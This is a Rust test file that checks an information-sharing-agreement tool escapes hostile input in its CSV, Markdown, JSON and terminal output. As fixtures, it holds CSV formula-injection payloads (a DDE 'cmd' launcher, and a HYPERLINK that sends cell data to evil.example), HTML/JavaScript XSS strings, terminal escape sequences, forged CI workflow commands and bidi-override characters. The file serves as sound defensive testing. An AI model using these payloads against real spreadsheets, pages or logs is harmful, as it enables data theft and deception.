//! No text from a definition (or a file name) can become a formula in a spreadsheet, markup in
//! Markdown, an escape sequence in a terminal or a workflow command in a CI log (issue 14).
//!
//! Each test writes a hostile definition (the clean base fixture with hostile text in the
//! fields that reach the output), runs the real binary and parses what it wrote.

use std::path::{Path, PathBuf};

use assert_cmd::Command;

const TODAY: &str = "2026-11-22";

fn base() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/base")
}

/// The base text of `file` with each `(from, to)` replaced (each `from` must occur).
fn edited(file: &str, edits: &[(&str, &str)]) -> String {
    let mut text = std::fs::read_to_string(base().join(file)).unwrap();
    for (from, to) in edits {
        assert!(text.contains(from), "{file} has no `{from}`");
        text = text.replace(from, to);
    }
    text
}

fn isagen(args: &[&str], dir: &Path) -> std::process::Output {
    Command::cargo_bin("isagen")
        .unwrap()
        .args(args)
        .args(["--no-config", "--today", TODAY])
        .current_dir(dir)
        .output()
        .unwrap()
}

fn stdout(output: &std::process::Output) -> String {
    assert!(
        output.status.code().is_some_and(|c| c < 2),
        "exit {:?}: {}",
        output.status.code(),
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8(output.stdout.clone()).unwrap()
}

/// A YAML double-quoted scalar of `text`.
fn quoted(text: &str) -> String {
    let mut out = String::from("\"");
    for c in text.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\t' => out.push_str("\\t"),
            '\r' => out.push_str("\\r"),
            '\n' => out.push_str("\\n"),
            '\u{1b}' => out.push_str("\\e"),
            '\u{7}' => out.push_str("\\a"),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

// ---------------------------------------------------------------------------------------------
// 1. CSV formula injection

/// Cells that start a formula in Excel, LibreOffice Calc or Google Sheets.
const FORMULA_STARTS: &[char] = &['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];

/// The base definitions with a formula in every string that reaches a register column.
fn hostile_csv_definitions() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let hyperlink = r#"=HYPERLINK("http://evil.example/?x="&A2,"details")"#;
    let protocol = edited(
        "protocol.yaml",
        &[
            (
                "name: Northshire County Council",
                &format!("name: {}", quoted("+cmd|' /C calc'!A0")),
            ),
            (
                "name: Northshire NHS Foundation Trust",
                &format!("name: {}", quoted("-2+3")),
            ),
            ("name: Dana Price", &format!("name: {}", quoted("\n=1+1"))),
        ],
    );
    let agreement = edited(
        "agreement.yaml",
        &[
            (
                "title: Base Information Sharing Agreement",
                &format!("title: {}", quoted(hyperlink)),
            ),
            (
                "description: Planning and delivering joined-up care for the adult.",
                &format!("description: {}", quoted("＝1+1")),
            ),
            (
                "description: Adults discharged from hospital who need social care.",
                &format!("description: {}", quoted("－1")),
            ),
            (
                "name: Name and address",
                &format!("name: {}", quoted("@SUM(1+1)")),
            ),
            (
                "name: Diagnosis and care needs",
                &format!("name: {}", quoted("\tTAB=1")),
            ),
            (
                "legislation: Care Act 2014",
                &format!("legislation: {}", quoted("=1")),
            ),
            ("period: 8 years after the last contact", "period: \"=2+5\""),
            (
                "disposal: Secure deletion from the case system.",
                &format!("disposal: {}", quoted("\r=1")),
            ),
            (
                "- Role-based access over the encrypted health and social care network.",
                &format!("- {}", quoted("＠x")),
            ),
        ],
    );
    std::fs::write(dir.path().join("protocol.yaml"), protocol).unwrap();
    std::fs::write(dir.path().join("agreement.yaml"), agreement).unwrap();
    dir
}

fn assert_no_formula(csv_text: &str, expect_quoted: &[&str]) {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv_text.as_bytes());
    let mut cells = Vec::new();
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            assert!(
                !cell.starts_with(FORMULA_STARTS),
                "a cell starts a formula: {cell:?}\n{csv_text}"
            );
            cells.push(cell.to_string());
        }
    }
    assert!(cells.len() > 12, "{csv_text}");
    for expected in expect_quoted {
        assert!(
            cells.iter().any(|c| c == expected),
            "no cell {expected:?} in {cells:?}"
        );
    }
}

#[test]
fn the_flow_register_neutralises_formulas() {
    let dir = hostile_csv_definitions();
    let text = stdout(&isagen(&["register", ".", "--format", "csv"], dir.path()));
    assert_no_formula(
        &text,
        &[
            r#"'=HYPERLINK("http://evil.example/?x="&A2,"details")"#,
            "'-2+3",
            "'+cmd|' /C calc'!A0",
            "'@SUM(1+1); \tTAB=1",
            "'=2+5",
        ],
    );
}

#[test]
fn the_record_of_processing_neutralises_formulas() {
    let dir = hostile_csv_definitions();
    let text = stdout(&isagen(
        &["register", ".", "--ropa", "council", "--format", "csv"],
        dir.path(),
    ));
    assert_no_formula(
        &text,
        &[
            "'+cmd|' /C calc'!A0",
            "'＝1+1",
            "'－1",
            "'=2+5; \r=1",
            "'\n=1+1, dpo@northshire.example",
        ],
    );
    let text = stdout(&isagen(
        &["register", ".", "--ropa", "trust", "--format", "csv"],
        dir.path(),
    ));
    assert_no_formula(&text, &["'-2+3", "'＠x"]);
}

#[test]
fn a_spreadsheet_reader_sees_text_not_formulas() {
    // The same check with Python's csv module, a reader other than ours, when it is there.
    if std::process::Command::new("python3")
        .arg("--version")
        .output()
        .is_err()
    {
        return;
    }
    let dir = hostile_csv_definitions();
    let text = stdout(&isagen(&["register", ".", "--format", "csv"], dir.path()));
    let path = dir.path().join("register.csv");
    std::fs::write(&path, text).unwrap();
    let script = "import csv,sys\n\
        bad=[c for r in csv.reader(open(sys.argv[1],newline='',encoding='utf-8')) for c in r \
        if c[:1] in ('=','+','-','@','\\t','\\r','\\n','\u{ff1d}','\u{ff0b}','\u{ff0d}','\u{ff20}')]\n\
        print(bad); sys.exit(1 if bad else 0)\n";
    let output = std::process::Command::new("python3")
        .args(["-c", script])
        .arg(&path)
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
}

// ---------------------------------------------------------------------------------------------
// 2. Markdown injection

const HOSTILE_TITLE: &str = "Evil <img src=x onerror=alert(1)> [x](javascript:alert(1)) | extra | cells\n# Heading\n| row | row |\n<script>alert(1)</script>";

fn hostile_title_definitions() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let agreement = edited(
        "agreement.yaml",
        &[(
            "title: Base Information Sharing Agreement",
            &format!("title: {}", quoted(HOSTILE_TITLE)),
        )],
    );
    std::fs::write(dir.path().join("agreement.yaml"), agreement).unwrap();
    std::fs::copy(
        base().join("protocol.yaml"),
        dir.path().join("protocol.yaml"),
    )
    .unwrap();
    dir
}

/// The `|` that separate cells: those not escaped with a backslash.
fn cell_separators(line: &str) -> usize {
    let mut count = 0;
    let mut escaped = false;
    for c in line.chars() {
        match c {
            '\\' if !escaped => escaped = true,
            '|' if !escaped => count += 1,
            _ => escaped = false,
        }
    }
    count
}

/// No raw HTML, no link, no heading from user text, and every table row as wide as its header.
fn assert_safe_markdown(text: &str, own_headings: &[&str]) {
    let bytes = text.as_bytes();
    for (i, b) in bytes.iter().enumerate() {
        if *b == b'<' {
            assert!(i > 0 && bytes[i - 1] == b'\\', "raw `<` at {i}:\n{text}");
        }
    }
    for (i, _) in text.match_indices("](") {
        assert!(
            i > 0 && bytes[i - 1] == b'\\',
            "unescaped `](` at {i}:\n{text}"
        );
    }
    for line in text.lines() {
        if line.starts_with('#') {
            assert!(
                own_headings.iter().any(|h| line.starts_with(h)),
                "a heading from user text: {line}"
            );
        }
    }
    let mut width = None;
    for line in text.lines() {
        if line.starts_with('|') {
            let cells = cell_separators(line);
            match width {
                None => width = Some(cells),
                Some(w) => assert_eq!(cells, w, "a row of another width: {line}\n{text}"),
            }
        } else {
            width = None;
        }
    }
}

#[test]
fn status_markdown_escapes_titles() {
    let dir = hostile_title_definitions();
    let text = stdout(&isagen(
        &["status", ".", "--format", "markdown"],
        dir.path(),
    ));
    assert!(text.contains("Evil \\<img"), "{text}");
    assert_safe_markdown(&text, &[]);
    assert_eq!(text.lines().count(), 4, "{text}");
}

#[test]
fn register_markdown_escapes_values() {
    let dir = hostile_title_definitions();
    let text = stdout(&isagen(&["register", ".", "--format", "md"], dir.path()));
    assert!(text.contains("Evil \\<img"), "{text}");
    assert_safe_markdown(&text, &[]);
    assert_eq!(text.lines().count(), 3, "{text}");
    let text = stdout(&isagen(
        &["register", ".", "--ropa", "council", "--format", "md"],
        dir.path(),
    ));
    assert_safe_markdown(&text, &[]);
    assert_eq!(text.lines().count(), 3, "{text}");
}

#[test]
fn diff_markdown_escapes_titles_and_values() {
    let dir = hostile_title_definitions();
    let old = base().join("agreement.yaml");
    let new = dir.path().join("agreement.yaml");
    let output = isagen_plain(
        &["diff", old.to_str().unwrap(), new.to_str().unwrap()],
        dir.path(),
    );
    let text = stdout(&output);
    assert!(text.contains("Evil \\<img"), "{text}");
    assert_safe_markdown(&text, &["## Changes to ", "### "]);
}

// ---------------------------------------------------------------------------------------------
// 3. Terminal and CI-log injection

fn assert_terminal_safe(output: &std::process::Output) {
    for (name, stream) in [("stdout", &output.stdout), ("stderr", &output.stderr)] {
        let text = String::from_utf8_lossy(stream);
        assert!(!stream.contains(&0x1b), "ESC in {name}:\n{text}");
        assert!(!stream.contains(&0x07), "BEL in {name}:\n{text}");
        assert!(
            !text.contains('\u{9b}') && !text.contains('\u{202E}'),
            "C1 control or bidi override in {name}:\n{text}"
        );
        for line in text.lines() {
            assert!(
                !line.trim_start().starts_with("::"),
                "a workflow command in {name}: {line}\n{text}"
            );
        }
    }
}

const HOSTILE_NAME: &str = "evil\u{1b}]0;pwned\u{7}\u{1b}[2J\n::error::x\u{202E}.yaml";

/// The base definitions, the protocol under a hostile file name, with a placeholder (so the
/// file has a finding) and a hostile key and value quoted by the messages.
fn hostile_files() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let protocol = edited(
        "protocol.yaml",
        &[(
            "oversight: Northshire Information Governance Group",
            "oversight: Northshire Information Governance Group TBC",
        )],
    );
    std::fs::write(dir.path().join(HOSTILE_NAME), protocol).unwrap();
    let agreement = edited(
        "agreement.yaml",
        &[(
            "protocol: base-protocol\n",
            &format!(
                "protocol: base-protocol\n{}: 1\n",
                quoted("\u{1b}]0;pwned\u{7}\n::add-mask::y\u{9b}2J")
            ),
        )],
    );
    std::fs::write(dir.path().join("agreement.yaml"), agreement).unwrap();
    dir
}

#[test]
fn the_human_report_escapes_file_names_and_values() {
    let dir = hostile_files();
    let output = isagen(&["validate", "."], dir.path());
    assert_eq!(output.status.code(), Some(1));
    let text = String::from_utf8_lossy(&output.stdout);
    // The findings are there, their file names and values escaped visibly.
    assert!(text.contains("G020"), "{text}");
    assert!(text.contains("S004"), "{text}");
    assert!(
        text.contains("evil\\u{1b}]0;pwned\\u{7}\\u{1b}[2J\\u{a}::error::x\\u{202e}.yaml"),
        "{text}"
    );
    assert!(text.contains("\\u{9b}2J"), "{text}");
    assert_terminal_safe(&output);
}

#[test]
fn the_hash_command_escapes_file_names() {
    let dir = hostile_files();
    let output = isagen_plain(&["hash", HOSTILE_NAME], dir.path());
    assert!(output.status.success());
    assert_terminal_safe(&output);
}

fn isagen_plain(args: &[&str], dir: &Path) -> std::process::Output {
    Command::cargo_bin("isagen")
        .unwrap()
        .args(args)
        .current_dir(dir)
        .output()
        .unwrap()
}

// ---------------------------------------------------------------------------------------------
// 4. Hidden characters in diff

fn diff_of(old: &str, new: &str, format: &str) -> String {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("old.yaml"), old).unwrap();
    std::fs::write(dir.path().join("new.yaml"), new).unwrap();
    stdout(&isagen_plain(
        &["diff", "old.yaml", "new.yaml", "--format", format],
        dir.path(),
    ))
}

#[test]
fn diff_shows_hidden_characters() {
    let old = std::fs::read_to_string(base().join("protocol.yaml")).unwrap();
    let new = edited(
        "protocol.yaml",
        &[(
            "name: Northshire NHS Foundation Trust",
            "name: \"Northshire NHS\\u202E Foundation\\u200B Trust\"",
        )],
    );
    let md = diff_of(&old, &new, "md");
    assert!(
        md.contains("to \"Northshire NHS⟨U+202E⟩ Foundation⟨U+200B⟩ Trust\""),
        "{md}"
    );
    assert!(!md.contains('\u{202E}') && !md.contains('\u{200B}'), "{md}");
    let json = diff_of(&old, &new, "json");
    assert!(
        json.contains(r#""new": "Northshire NHS\u202e Foundation\u200b Trust""#),
        "{json}"
    );
    assert!(
        !json.contains('\u{202E}') && !json.contains('\u{200B}'),
        "{json}"
    );
    // The escapes decode to the exact text.
    let value: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(
        value["changes"][0]["new"],
        "Northshire NHS\u{202E} Foundation\u{200B} Trust"
    );
}

// ---------------------------------------------------------------------------------------------
// 5. diff --format json carries values whole

#[test]
fn diff_json_carries_long_values_whole() {
    let long: String = "Planning and delivering joined-up care. ".repeat(50);
    let long = long[..2000].to_string();
    let old = std::fs::read_to_string(base().join("agreement.yaml")).unwrap();
    let new = edited(
        "agreement.yaml",
        &[(
            "description: Planning and delivering joined-up care for the adult.",
            &format!("description: {}", quoted(&long)),
        )],
    );
    let json = diff_of(&old, &new, "json");
    let value: serde_json::Value = serde_json::from_str(&json).unwrap();
    let change = &value["changes"][0];
    assert_eq!(change["field"], "description");
    assert_eq!(change["new"].as_str().unwrap().chars().count(), 2000);
    assert_eq!(change["new"], long.as_str());
    assert_eq!(
        change["old"],
        "Planning and delivering joined-up care for the adult."
    );
    // The Markdown still shortens, and marks the cut.
    let md = diff_of(&old, &new, "md");
    assert!(md.contains("…\""), "{md}");
    assert!(md.len() < 1000, "{md}");
}

#[test]
fn diff_errors_escape_file_names() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join(HOSTILE_NAME), "kind: [unclosed\n").unwrap();
    std::fs::copy(base().join("agreement.yaml"), dir.path().join("new.yaml")).unwrap();
    let output = isagen_plain(&["diff", HOSTILE_NAME, "new.yaml"], dir.path());
    assert_eq!(output.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&output.stderr).contains("\\u{1b}]0;pwned"),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert_terminal_safe(&output);
}

/// The severities of the G022 findings on the G022 fixture, with `config` as `isagen.toml`.
fn g022_severities(config: Option<&str>) -> Vec<String> {
    let dir = tempfile::tempdir().unwrap();
    for folder in [base(), base().join("../rules/G022-hidden-characters")] {
        for entry in std::fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            std::fs::copy(&path, dir.path().join(path.file_name().unwrap())).unwrap();
        }
    }
    let mut command = Command::cargo_bin("isagen").unwrap();
    command
        .args(["validate", ".", "--output-format", "json", "--today", TODAY])
        .current_dir(dir.path());
    match config {
        Some(text) => {
            std::fs::write(dir.path().join("isagen.toml"), text).unwrap();
            command.args(["--config", "isagen.toml"]);
        }
        None => {
            command.arg("--no-config");
        }
    }
    let output = command.output().unwrap();
    let report: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    let mut severities: Vec<String> = report["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|d| d["code"] == "G022")
        .map(|d| d["severity"].as_str().unwrap().to_string())
        .collect();
    severities.sort();
    severities
}

#[test]
fn hidden_characters_are_errors_or_warnings_unless_configured() {
    assert_eq!(
        g022_severities(None),
        ["error", "error", "warning", "warning", "warning", "warning"]
    );
    assert_eq!(
        g022_severities(Some("[rules]\nG022 = \"warning\"\n")),
        ["warning"; 6]
    );
    assert_eq!(
        g022_severities(Some("[rules]\nhidden-characters = \"error\"\n")),
        ["error"; 6]
    );
    assert!(g022_severities(Some("[rules]\nG022 = \"off\"\n")).is_empty());
}

#[test]
fn status_and_register_json_show_hidden_characters_as_escapes() {
    let dir = tempfile::tempdir().unwrap();
    let agreement = edited(
        "agreement.yaml",
        &[(
            "title: Base Information Sharing Agreement",
            "title: \"Base \\u202EInformation Sharing Agreement\"",
        )],
    );
    std::fs::write(dir.path().join("agreement.yaml"), agreement).unwrap();
    std::fs::copy(
        base().join("protocol.yaml"),
        dir.path().join("protocol.yaml"),
    )
    .unwrap();
    for args in [
        &["status", ".", "--format", "json"][..],
        &["register", ".", "--format", "json"],
    ] {
        let text = stdout(&isagen(args, dir.path()));
        assert!(text.contains(r"Base \u202eInformation"), "{text}");
        assert!(!text.contains('\u{202E}'), "{text}");
        let _: serde_json::Value = serde_json::from_str(&text).unwrap();
    }
}

#[test]
fn markdown_reports_show_hidden_characters() {
    let dir = tempfile::tempdir().unwrap();
    let agreement = edited(
        "agreement.yaml",
        &[(
            "title: Base Information Sharing Agreement",
            "title: \"Base \\u202EInformation Sharing Agreement\"",
        )],
    );
    std::fs::write(dir.path().join("agreement.yaml"), agreement).unwrap();
    std::fs::copy(
        base().join("protocol.yaml"),
        dir.path().join("protocol.yaml"),
    )
    .unwrap();
    for args in [
        &["status", ".", "--format", "markdown"][..],
        &["register", ".", "--format", "md"],
    ] {
        let text = stdout(&isagen(args, dir.path()));
        assert!(text.contains("Base ⟨U+202E⟩Information"), "{text}");
        assert!(!text.contains('\u{202E}'), "{text}");
    }
}

/// A tool error (here, a path that does not exist) quotes the path: it reaches the terminal
/// escaped, with no escape sequence and no workflow command.
#[test]
fn a_tool_error_quoting_a_hostile_path_is_escaped() {
    let dir = tempfile::tempdir().unwrap();
    let name = "gone\u{1b}]0;pwned\u{7}\n::error::forged.yaml";
    let output = isagen(&["validate", name], dir.path());
    assert_eq!(output.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        !stderr.contains('\u{1b}') && !stderr.contains('\u{7}'),
        "{stderr:?}"
    );
    assert!(!stderr.lines().any(|l| l.starts_with("::")), "{stderr:?}");
    assert!(stderr.contains("gone\\u{1b}]0;pwned"), "{stderr:?}");
}
